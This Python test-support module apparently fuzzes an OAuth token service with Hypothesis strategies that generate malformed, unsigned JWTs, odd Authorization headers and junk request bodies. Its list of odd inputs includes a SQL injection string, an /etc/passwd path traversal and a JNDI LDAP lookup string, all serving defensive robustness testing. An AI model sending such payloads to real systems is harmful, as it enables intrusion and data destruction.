"""What strangers send: requests of every odd kind, with no credentials that anybody was given."""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from dataclasses import dataclass, field

from hypothesis import strategies as st

from tests.support.authorization.malformed import ASSERTION_TYPE, AUTHORIZATIONS, DOCUMENTS, FORM, FORMS, JSON

KNOWN_CLIENT = "sa_reader"
HUGE = "x" * 3000
ODD_TEXTS = (
    "",
    " ",
    "\x00",
    "\ud800",
    "\udfff\ud800",
    "Ж" * 700,
    HUGE,
    "%00",
    "%ff",
    "%zz",
    "'; DROP TABLE accounts; --",
    "../../etc/passwd",
    "${jndi:ldap://a.example}",
    "\u202e\u0000\uffff",
    "1e999",
    "NaN",
    "null",
    "9" * 400,
    "-1",
    "*",
    KNOWN_CLIENT,
)
_VALUES: tuple[object, ...] = (
    *ODD_TEXTS,
    None,
    True,
    0,
    -1,
    10**400,
    1e308,
    float("inf"),
    float("nan"),
    [],
    {},
    [KNOWN_CLIENT],
    {"sub": KNOWN_CLIENT},
)
_DEEP = ("[" * 7000, '{"a":' * 2500, "[" * 900 + "]" * 900)


@dataclass(frozen=True)
class Sent:
    """A request as a stranger puts it together."""

    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes = b""
    query: str = ""


def base64url(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode("utf-8", "surrogatepass")).rstrip(b"=").decode()


def jwts(known_kids: tuple[str, ...] = ("RS256",)) -> st.SearchStrategy[str]:
    """JWTs that nobody signed, some with a key that is known, and what only looks like one."""
    values = st.sampled_from(_VALUES)
    headers = st.fixed_dictionaries(
        {},
        optional={
            "alg": st.sampled_from(["RS256", "ES256", "none", "HS256", "Ed25519", "RS256\x00", 1, None]),
            "kid": st.one_of(st.sampled_from(known_kids), values),
            "typ": st.sampled_from(["at+jwt", "JWT", "application/at+jwt", 1, HUGE]),
            "crit": values,
            "b64": st.booleans(),
            "jwk": values,
            "zip": st.just("DEF"),
        },
    )
    claims = st.dictionaries(
        st.sampled_from(["iss", "sub", "aud", "exp", "iat", "nbf", "jti", "client_id", "scope", "x"]), values
    )
    encoded = st.one_of(
        headers.map(json.dumps), claims.map(json.dumps), st.sampled_from(_DEEP), st.sampled_from(ODD_TEXTS)
    ).map(base64url)
    whole = st.tuples(headers.map(json.dumps).map(base64url), claims.map(json.dumps).map(base64url), encoded)
    parts = st.lists(st.one_of(encoded, st.sampled_from(["", "%", "=", "\ud800"])), max_size=5)
    return st.one_of(whole.map(".".join), parts.map(".".join), st.sampled_from(ODD_TEXTS))


def authorizations(tokens: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Authorization headers of every scheme, credentials and encoding."""
    pairs = st.tuples(st.sampled_from(ODD_TEXTS), st.sampled_from(ODD_TEXTS)).map(":".join)
    encoded = pairs.map(lambda text: base64.b64encode(text.encode("utf-8", "surrogatepass")).decode())
    return st.one_of(
        st.sampled_from([value for value in AUTHORIZATIONS.values() if value is not None]),
        encoded.map("Basic {}".format),
        st.sampled_from(ODD_TEXTS).map("Basic {}".format),
        tokens.map("Bearer {}".format),
        st.text(max_size=20),
    )


def _forms(tokens: st.SearchStrategy[str]) -> st.SearchStrategy[bytes]:
    names = [
        "grant_type",
        "scope",
        "client_id",
        "client_secret",
        "client_assertion",
        "token",
        "token_type_hint",
        "",
    ]
    values = st.one_of(
        st.sampled_from(ODD_TEXTS),
        st.sampled_from(["client_credentials", ASSERTION_TYPE, "files:read", KNOWN_CLIENT]),
        tokens,
    )
    pairs = st.lists(st.tuples(st.sampled_from(names), values).map("=".join), max_size=6).map("&".join)
    asserting = tokens.map(
        lambda jwt: (
            f"grant_type=client_credentials&token=x&client_assertion_type={ASSERTION_TYPE}&client_assertion={jwt}"
        )
    )
    return st.one_of(pairs, asserting).map(lambda text: text.encode("utf-8", "surrogatepass"))


def requests_of_strangers(tokens: st.SearchStrategy[str]) -> st.SearchStrategy[Sent]:
    """Requests for any path: odd headers, odd bodies, odd parameters."""
    tables = [*FORMS.values(), *DOCUMENTS.values()]
    bodies = st.one_of(
        _forms(tokens),
        st.binary(max_size=200),
        st.sampled_from([each if isinstance(each, bytes) else each.encode() for each in tables]),
        st.sampled_from([text.encode() for text in _DEEP]),
        st.dictionaries(
            st.sampled_from(["grant_type", "client_id", "client_secret", "client_assertion", "token", "name"]),
            st.sampled_from(_VALUES),
        ).map(lambda document: json.dumps(document).encode()),
    )
    names = ["Content-Type", "Authorization", "Accept", "If-Match", "If-None-Match", "Idempotency-Key", "Range"]
    headers = st.fixed_dictionaries(
        {},
        optional={
            "Content-Type": st.sampled_from([FORM, JSON, "text/plain", "", ";", "a/b; charset=\ud800", HUGE]),
            "Authorization": authorizations(tokens),
            **{name: st.sampled_from(ODD_TEXTS) for name in names[2:]},
        },
    )
    queries = st.lists(
        st.tuples(
            st.sampled_from(["limit", "cursor", "query", "grant_type", "client_id", ""]),
            st.sampled_from(ODD_TEXTS),
        ),
        max_size=4,
    ).map(lambda pairs: "&".join("=".join(pair) for pair in pairs))
    return st.builds(Sent, headers=headers, body=bodies, query=st.one_of(st.just(""), queries))
